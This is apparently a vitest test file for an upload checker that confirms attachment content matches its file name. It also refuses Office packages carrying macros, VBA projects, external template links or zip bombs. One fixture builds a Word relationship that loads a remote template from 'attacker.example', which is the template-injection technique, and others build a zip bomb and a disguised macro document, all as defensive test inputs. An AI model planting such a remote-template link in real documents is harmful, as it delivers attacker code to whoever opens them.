import { describe, expect, it } from "vitest";
import {
  craftedTextDocument,
  craftedWordDocument,
  craftedWorkbook,
  SAMPLES,
  wordDocument,
  workbook,
  zipBomb,
} from "../../tests/sample-files";
import { contentProblemOf, isPlausibleMessage } from "./attachment-content.server";
import { contentTypeOf } from "./attachments";

// Issue 24 finding 2: the content's real type against the name. Issue 39 finding 4: what an Office
// package holds (office-package.server.test.ts has the rule's every branch).

describe("contentProblemOf", () => {
  it("accepts each allowed type holding its own format", async () => {
    const files: Array<[string, Uint8Array]> = [
      ["a.pdf", SAMPLES.pdf()],
      ["a.png", SAMPLES.png()],
      ["a.jpg", SAMPLES.jpeg()],
      ["a.JPEG", SAMPLES.jpeg()],
      ["a.gif", SAMPLES.gif()],
      ["a.heic", SAMPLES.heic()],
      ["a.rtf", SAMPLES.rtf()],
      ["a.csv", SAMPLES.csv()],
      ["a.txt", SAMPLES.txt()],
      ["a.docx", wordDocument()],
      ["a.docx", craftedWordDocument()],
      ["a.xlsx", workbook()],
      ["a.xlsx", craftedWorkbook()],
      ["a.odt", craftedTextDocument()],
      ["scan.tif", SAMPLES.tiff()],
      ["scan.TIFF", SAMPLES.tiffBigEndian()],
      ["letter.eml", SAMPLES.eml()],
    ];
    for (const [name, bytes] of files) expect(await contentProblemOf(name, bytes), name).toBeNull();
  });

  it("refuses a file whose content is another format than its name says", async () => {
    expect(await contentProblemOf("invoice.pdf", SAMPLES.exe())).toBe("mismatch");
    expect(await contentProblemOf("photo.jpg", SAMPLES.png())).toBe("mismatch");
    expect(await contentProblemOf("letter.docx", SAMPLES.zip())).toBe("mismatch");
    expect(await contentProblemOf("sheet.xlsx", wordDocument())).toBe("mismatch");
    // a text format must not hold a binary one
    expect(await contentProblemOf("notes.txt", SAMPLES.exe())).toBe("mismatch");
    expect(await contentProblemOf("figures.csv", SAMPLES.pdf())).toBe("mismatch");
    // nothing recognisable is not a PDF
    expect(await contentProblemOf("empty.pdf", new Uint8Array(100))).toBe("mismatch");
  });

  it("refuses an Office package holding macros, links to content elsewhere, or a bomb (issue 39)", async () => {
    // a macro-enabled document renamed .docx, and a .docx with a VBA project
    expect(await contentProblemOf("letter.docx", wordDocument(true))).toBe("active-content");
    const vba = craftedWordDocument({ parts: { "word/vbaProject.bin": new Uint8Array(16) } });
    expect(await contentProblemOf("letter.docx", vba)).toBe("active-content");
    const template = craftedWordDocument({
      relationships: `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>`,
    });
    expect(await contentProblemOf("letter.docx", template)).toBe("external");
    expect(await contentProblemOf("figures.xlsx", zipBomb(2048))).toBe("unpacked-too-large");
  });

  it("refuses a type outside the allow-list whatever it holds, the old binary Office formats included", async () => {
    expect(await contentProblemOf("page.html", SAMPLES.html())).toBe("mismatch");
    expect(await contentProblemOf("setup.exe", SAMPLES.exe())).toBe("mismatch");
    // any bytes after an OLE signature were a .doc or .xls (issue 39); those types are off the list
    expect(await contentProblemOf("letter.doc", SAMPLES.compound())).toBe("mismatch");
    expect(await contentProblemOf("sheet.xls", SAMPLES.compound())).toBe("mismatch");
  });
});

describe("TIFF and saved e-mails (decision 205)", () => {
  it("takes a TIFF by its magic bytes only", async () => {
    expect(await contentProblemOf("scan.tiff", SAMPLES.tiff())).toBeNull();
    expect(await contentProblemOf("scan.tif", SAMPLES.png())).toBe("mismatch");
    expect(await contentProblemOf("scan.tif", SAMPLES.txt())).toBe("mismatch");
    expect(await contentProblemOf("scan.tif", SAMPLES.exe())).toBe("mismatch");
    expect(contentTypeOf("scan.TIF")).toBe("image/tiff");
  });

  it("takes an .eml that reads as a message, and nothing else under that name", async () => {
    expect(await contentProblemOf("letter.eml", SAMPLES.eml())).toBeNull();
    expect(contentTypeOf("letter.eml")).toBe("message/rfc822");
    for (const [what, bytes] of [
      ["plain text", SAMPLES.txt()],
      ["a web page", SAMPLES.html()],
      ["a program", SAMPLES.exe()],
      ["a PDF", SAMPLES.pdf()],
      ["a CSV", SAMPLES.csv()],
    ] as const)
      expect(await contentProblemOf("letter.eml", bytes), what).toBe("mismatch");
  });

  it("reads a message's header fields: a From and another, folded lines, an mbox line, up to the empty line", () => {
    const text = (s: string) => new TextEncoder().encode(s);
    expect(isPlausibleMessage(text("From: a@example.com\nSubject: Hello\n\nBody"))).toBe(true);
    expect(isPlausibleMessage(text("From - Mon Nov 02 09:30:00 2026\nFrom: a@example.com\nDate: x\n\n"))).toBe(true);
    expect(isPlausibleMessage(text("Received: from x\n by y\nFrom: a@example.com\n\nBody"))).toBe(true);
    // headers only, no body
    expect(isPlausibleMessage(text("From: a@example.com\r\nTo: b@example.com\r\n"))).toBe(true);
    // no From, a single field, a line that is not a field, a continuation first, a NUL, nothing
    expect(isPlausibleMessage(text("To: a@example.com\nSubject: Hello\n\n"))).toBe(false);
    expect(isPlausibleMessage(text("From: a@example.com\n\nBody"))).toBe(false);
    expect(isPlausibleMessage(text("From: a@example.com\nDear adviser,\n\n"))).toBe(false);
    expect(isPlausibleMessage(text(" folded: x\nFrom: a@example.com\nTo: b\n\n"))).toBe(false);
    expect(isPlausibleMessage(text("From: a@example.com\nTo: b\0\n\n"))).toBe(false);
    expect(isPlausibleMessage(text("Bad name: x\nFrom: a@example.com\n\n"))).toBe(false);
    expect(isPlausibleMessage(new Uint8Array(0))).toBe(false);
    // a header block longer than what is read is not judged a message
    const long = text(`From: a@example.com\nTo: b@example.com\nX-Long: ${"a".repeat(70_000)}\n\nBody`);
    expect(isPlausibleMessage(long)).toBe(false);
  });
});
